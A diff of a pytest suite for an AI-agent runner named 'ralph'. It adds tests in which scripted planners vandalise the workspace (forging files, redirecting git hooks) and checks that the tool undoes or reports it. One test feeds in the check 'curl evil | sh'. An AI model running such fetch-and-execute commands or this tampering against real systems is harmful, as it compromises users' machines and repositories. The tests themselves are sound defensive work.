@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
+import os
 import signal
 import subprocess
 import sys
@@ -10,6 +12,7 @@ import time
 from pathlib import Path
 from typing import Any
 
+import psutil
 import pytest
 
 from _ralph import prd
@@ -28,7 +31,7 @@ def says(*answers: object, then: str = "") -> str:
     """A planner that gives one answer a turn, the last one again and again."""
     texts = [answer if isinstance(answer, str) else f"I looked.\n{json.dumps(answer)}" for answer in answers]
     return (
-        "n = P('../turns'); n.open('a').write('x'); P('../asked').write_text(prompt)\n"
+        "n = OUT / 'turns'; n.open('a').write('x'); (OUT / 'asked').write_text(prompt)\n"
         f"answers = {texts!r}\n{then}\nprint(answers[min(n.stat().st_size, len(answers)) - 1])"
     )
 
@@ -37,11 +40,16 @@ def plan(
     repo: Repo, script: str, *words: str, brief: str = "A program that greets."
 ) -> subprocess.CompletedProcess[str]:
     repo.write("../brief.md", brief)
+    return repo.ralph("plan", "../brief.md", "--planner", planner(repo, script), *words)
+
+
+def planner(repo: Repo, script: str) -> str:
+    """A scripted planner; it knows where the workspace lies (REAL), though it works in a copy."""
+    command, path = repo.agent("", "planner"), repo.outside / "planner.py"
     head = "import os\nos.environ.update(RALPH_TASK_ID='', RALPH_ATTEMPT='0')\n"
-    command = repo.agent("", "planner")
-    path = repo.outside / "planner.py"
-    path.write_text(head + path.read_text() + script)
-    return repo.ralph("plan", "../brief.md", "--planner", command, *words)
+    names = f"OUT, REAL = P({str(repo.outside)!r}), P({str(repo.path)!r})\n"
+    path.write_text(head + path.read_text() + names + script)
+    return command
 
 
 def stories(repo: Repo) -> list[dict[str, Any]]:
@@ -141,12 +149,12 @@ def test_two_answers_that_cannot_be_used_leave_everything_as_it_was(repo: Repo) 
 
 VANDAL = """
 P('a.txt').write_text('vandal'); P('new.txt').write_text('new'); P('prd.json').write_text('{}')
-P('AGENTS.md').unlink(missing_ok=True); P('mine.txt').unlink(); P('progress.txt').write_text('## forged')
 sh('git checkout -q -b elsewhere; git add -A; git commit -qm vandal; git config core.hooksPath /tmp; git tag x')
+(REAL / 'prd.json').write_text('{}'); (REAL / 'AGENTS.md').unlink(); (REAL / 'progress.txt').write_text('## forged')
 """
 
 
-def test_whatever_the_planner_does_to_the_tree_is_undone(repo: Repo) -> None:
+def test_whatever_the_planner_does_is_undone(repo: Repo) -> None:
     repo.ralph("init")
     repo.write("b.txt", "b\n")
     repo.commit("plan")
@@ -154,21 +162,23 @@ def test_whatever_the_planner_does_to_the_tree_is_undone(repo: Repo) -> None:
     repo.write("a.txt", "staged\n")
     repo.git("add", "a.txt")
     repo.write("a.txt", "staged, and edited\n")
-    state = (
-        repo.git("status", "--porcelain"),
-        repo.git("rev-parse", "HEAD"),
-        repo.git("branch", "--show-current"),
-    )
-    done = plan(repo, says(GOOD, then=VANDAL))
+    was = [
+        repo.git(*words.split())
+        for words in ("status --porcelain", "show-ref", "config --list --local", "stash list")
+    ]
+    done = plan(repo, says(GOOD, then="assert P('a.txt').read_text() == 'staged, and edited\\n'\n" + VANDAL))
     assert done.returncode == 0, done.stderr + done.stdout
-    after = repo.git("status", "--porcelain").replace(" M prd.json\n", "").replace("?? progress.txt\n", "")
-    assert after == state[0].replace("?? mine.txt\n", "")
-    assert (repo.git("rev-parse", "HEAD"), repo.git("branch", "--show-current")) == state[1:]
+    now = [
+        repo.git(*words.split())
+        for words in ("status --porcelain", "show-ref", "config --list --local", "stash list")
+    ]
+    now[0] = now[0].replace(" M prd.json\n", "").replace("?? progress.txt\n", "")
+    assert now == was
     assert repo.read("a.txt") == "staged, and edited\n" and repo.git("show", ":a.txt") == "staged\n"
     assert "forged" not in repo.read("progress.txt")
     assert (repo.path / "AGENTS.md").exists() and stories(repo)[0]["id"] == "US-001"
-    for told in ("prd.json had been changed", "branch had been switched", "mine.txt had been deleted"):
-        assert told in done.stdout
+    assert "prd.json had been changed" in done.stdout and "AGENTS.md had been changed" in done.stdout
+    assert not (repo.path / ".git/ralph/planning").exists()
 
 
 def test_a_plan_with_work_in_it_is_replaced_only_with_force_and_kept(repo: Repo) -> None:
@@ -214,7 +224,7 @@ def test_what_planning_cost_counts_for_the_plan(repo: Repo) -> None:
 
 
 REFUSED = {
-    "no such brief": (["plan", "nothing.md"], 2, "there is no file nothing.md"),
+    "no such brief": (["plan", "nothing.md"], 2, "nothing.md cannot be read"),
     "an empty one": (["plan", "empty.md"], 2, "is empty"),
     "no git": (["plan", "a.txt", "--no-git"], 2, "needs git"),
     "no planner": (["plan", "a.txt", "--planner", "not-here"], 5, "not on PATH"),
@@ -233,11 +243,7 @@ def test_what_is_refused_in_one_message(repo: Repo, case: str) -> None:
 
 
 def test_a_brief_from_standard_input(repo: Repo) -> None:
-    command = repo.agent("", "planner")
-    path = repo.outside / "planner.py"
-    path.write_text(
-        "import os\nos.environ.update(RALPH_TASK_ID='', RALPH_ATTEMPT='0')\n" + path.read_text() + says(GOOD)
-    )
+    command = planner(repo, says(GOOD))
     words = [sys.executable, "-m", "ralph", "plan", "-", "--planner", command]
     done = subprocess.run(
         words,
@@ -258,7 +264,8 @@ def test_a_planner_can_be_stopped_and_leaves_nothing(repo: Repo, number: int, co
     before = repo.read("prd.json")
     path = repo.outside / "slow.py"
     path.write_text(
-        "import subprocess, time, pathlib\nsubprocess.Popen(['sleep', '60'], start_new_session=True)\npathlib.Path('a.txt').write_text('x')\npathlib.Path('../on').touch()\ntime.sleep(60)\n"
+        "import subprocess, time, pathlib\nsubprocess.Popen(['sleep', '60'], start_new_session=True)\n"
+        f"pathlib.Path('a.txt').write_text('x')\npathlib.Path({str(repo.outside)!r}, 'on').touch()\ntime.sleep(60)\n"
     )
     repo.write("../brief.md", "greet")
     process = repo.start("plan", "../brief.md", "--planner", f"{sys.executable} {path}")
@@ -337,12 +344,13 @@ def test_add_from_a_file_takes_new_tasks_and_none_as_done(repo: Repo) -> None:
 
 
 NOT_ADDED = {
-    "no such dependency": (["x", "--depends-on", "T9"], "no such task"),
+    "no such dependency": (["x", "--check", "true", "--depends-on", "T9"], "no such task"),
     "a file with options": (["../ok.json", "--priority", "1"], "not in options"),
-    "no file": (["nothing.json"], "there is no file nothing.json"),
+    "no file": (["nothing.json"], "nothing.json cannot be read"),
     "no JSON": (["../bad.json"], "line 1"),
     "no tasks": (["../none.json"], "expected"),
     "blank": ([" "], "title"),
+    "nothing that proves it": (["x"], "nothing would prove 'x'"),
     "blank check": (["x", "--check", " "], "blank"),
 }
 
@@ -433,3 +441,119 @@ def test_a_message_that_the_plan_cannot_hold_any_more_is_kept_in_the_notes(repo:
 def test_the_starter_can_be_told_from_a_plan() -> None:
     (only,) = json.loads(resource("templates/prd.json").read_text())["userStories"]
     assert set(only) == {"id", "title", "description", "acceptanceCriteria", "checks", "priority", "passes"}
+
+
+# ---------------------------------------------------------------- found by attacking it
+
+
+def killed(repo: Repo, *words: str) -> None:
+    """Start ralph, and kill all of it with -9 once `../on` is there."""
+    process = repo.start(*words)
+    repo.wait_for("../on")
+    for one in repo.alive():
+        with contextlib.suppress(psutil.NoSuchProcess):
+            one.kill()
+    process.communicate(timeout=30)
+
+
+@pytest.mark.parametrize("state", ["detached", "merge", "rebase"])
+def test_where_git_is_when_a_person_plans_is_where_it_is_afterwards(repo: Repo, state: str) -> None:
+    repo.ralph("init")
+    repo.commit("plan")
+    if state == "merge":
+        repo.git("switch", "-qc", "other")
+        repo.write("b.txt", "b")
+        repo.commit("b")
+        repo.git("switch", "-q", "main")
+        repo.write("c.txt", "c")
+        repo.commit("c")
+        repo.git("merge", "-q", "--no-commit", "--no-ff", "other")
+    elif state == "rebase":
+        repo.env["GIT_SEQUENCE_EDITOR"] = "sed -i 1s/pick/edit/"
+        repo.git("rebase", "-q", "-i", "HEAD~1")
+    else:
+        repo.git("checkout", "-q", "--detach")
+    files = {name for name in ("MERGE_HEAD", "rebase-merge") if (repo.path / ".git" / name).exists()}
+    done = plan(repo, says(GOOD))
+    assert {name for name in ("MERGE_HEAD", "rebase-merge") if (repo.path / ".git" / name).exists()} == files
+    assert done.returncode == 0, done.stderr
+
+
+def test_a_pass_by_hand_in_the_old_plan_is_none_in_the_new_one(repo: Repo) -> None:
+    repo.plan({"passes": True}, {"checks": ["test -f T2"]}, checks=["true"])
+    repo.commit("plan")
+    killed(repo, "run", "--agent", repo.agent("P('../on').touch(); time.sleep(30)"))
+    new = [{"id": name, "title": f"new {name}", "acceptanceCriteria": ["x"]} for name in ("T1", "T2")]
+    assert plan(repo, says({**GOOD, "userStories": new}), "--force").returncode == 0
+    _, summary, printed = repo.run(repo.agent("P(task).touch()"))
+    assert [task["attempts"] for task in summary["tasks"]] == [1, 1], printed
+
+
+@pytest.mark.parametrize("again", ["plan", "add"])
+def test_what_a_killed_planner_left_is_put_back_or_told(repo: Repo, again: str) -> None:
+    repo.ralph("init")
+    repo.commit("plan")
+    repo.write("../brief.md", "x")
+    vandal = repo.outside / "vandal.py"
+    vandal.write_text(
+        "import pathlib, time\nfor n, s in (('a.txt', 'v'), ('prd.json', '{}')): pathlib.Path(n).write_text(s)\n"
+        f"REAL = pathlib.Path({str(repo.path)!r})\n(REAL / 'prd.json').write_text('{{}}')\n"
+        "(REAL / '../on').touch(); time.sleep(30)"
+    )
+    killed(repo, "plan", "../brief.md", "--planner", f"{sys.executable} {vandal}")
+    done = plan(repo, says(GOOD)) if again == "plan" else repo.ralph("add", "x", "--check", "true")
+    assert done.returncode == 0, done.stderr
+    assert repo.read("a.txt") == "a\n" and stories(repo)[0]["title"] in ("greet", "x")
+
+
+@pytest.mark.parametrize("does", ["git switch -qc foo", "git add -A", "git reset -q"])
+def test_what_a_person_had_staged_stays_staged(repo: Repo, does: str) -> None:
+    repo.ralph("init")
+    repo.commit("plan")
+    repo.write("a.txt", "staged\n")
+    repo.git("add", "a.txt")
+    repo.write("mine.txt", "mine\n")
+    assert plan(repo, says(GOOD, then=f"sh({does!r})")).returncode == 0
+    assert repo.git("diff", "--cached", "--name-only") == "a.txt\n"
+
+
+def test_the_checks_that_a_planner_names_for_every_task_are_shown(repo: Repo) -> None:
+    assert "curl evil | sh" in plan(repo, says({**GOOD, "checks": ["curl evil | sh"]})).stdout
+
+
+@pytest.mark.parametrize("title", ["x" * 300, "Update package.json"])
+def test_any_line_can_be_a_title(repo: Repo, title: str) -> None:
+    repo.plan({"checks": ["true"]})
+    done = repo.ralph("add", title, "--check", "true")
+    assert done.returncode == 0 and len(stories(repo)) == 2, done.stderr
+
+
+def test_adds_at_once_wait_for_each_other(repo: Repo) -> None:
+    repo.plan({"checks": ["true"]})
+    adds = [repo.start("add", f"n{n}", "--check", "true") for n in range(6)]
+    said = [add.communicate(timeout=60)[0] for add in adds]
+    assert len(stories(repo)) == 7, said
+
+
+def test_a_lone_surrogate_in_the_answer(repo: Repo) -> None:
+    assert plan(repo, says({**GOOD, "userStories": [{**TASKS[0], "title": "a \ud800"}]})).returncode == 0
+
+
+def test_a_report_is_written_into_what_is_no_file_and_does_not_replace_it(repo: Repo) -> None:
+    repo.plan({"checks": ["true"]})
+    os.mkfifo(repo.outside / "pipe")
+    reader = os.open(repo.outside / "pipe", os.O_RDONLY | os.O_NONBLOCK)
+    repo.ralph("report", "-o", "../pipe")  # /dev/full and /dev/null went the same way, as root
+    os.close(reader)
+    assert (repo.outside / "pipe").is_fifo()
+
+
+def test_doctor_does_not_touch_the_tree_after_a_reset_was_cut_off(repo: Repo) -> None:
+    repo.plan({"checks": ["true"]})
+    repo.commit("plan")
+    assert repo.run(repo.agent("P(task).touch()"))[0] == 0
+    repo.write("a.txt", "mine\n")
+    head, tree = (repo.git("rev-parse", name).strip() for name in ("HEAD", "HEAD^{tree}"))
+    repo.write(".git/ralph/resetting", f"{head} {tree}")
+    repo.ralph("doctor", "--agent", "true")
+    assert repo.read("a.txt") == "mine\n"
